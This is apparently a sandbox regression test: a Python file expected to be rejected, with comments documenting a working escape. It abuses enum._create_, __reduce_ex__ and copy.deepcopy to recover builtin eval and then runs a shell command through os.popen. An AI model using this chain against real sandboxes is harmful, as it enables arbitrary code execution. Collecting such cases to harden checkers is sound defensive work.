# expect: reject attribute
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: enum's functional API through the sunder classmethod _create_ on a
#   program enum (the `class` rule restricts calls of an enum class, Color(...),
#   but not Base._create_(...), and reading a _sunder_ attribute is allowed). The
#   names mapping puts __deepcopy__=None and __reduce_ex__=f into the class dict,
#   where no class-body rule sees them (dunder-define forbids defining them).
#   copy.deepcopy of a member then runs f's reduce tuple: it builds a standard-
#   library object with a public callable (typing.List.copy_with) and writes the
#   returned state into its __dict__ (_name="__builtins__"). A second deepcopy
#   runs that forged typing alias's reduce: typing globals()["__builtins__"]["eval"].
#   No class by value is needed (module="__main__" keeps the enum picklable).
# Goal reached: builtin eval as a value, called -> ran `id`.
# Output seen under python3 (3.11.7), in a throw-away temp dir:
#   typing.__builtins__['eval']
#   <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import copy
import enum
import typing


class Base(enum.Enum):
    pass


def red(self, proto):
    return (typing.List.copy_with, (("eval",),), {"_name": "__builtins__"})


E = Base._create_("E", {"X": 1, "__deepcopy__": None, "__reduce_ex__": red}, module="__main__")
forged = copy.deepcopy(E.X)
print(forged)
ev = copy.deepcopy(forged)
print(ev)
print(ev("__import__('os').popen('id').read()"))
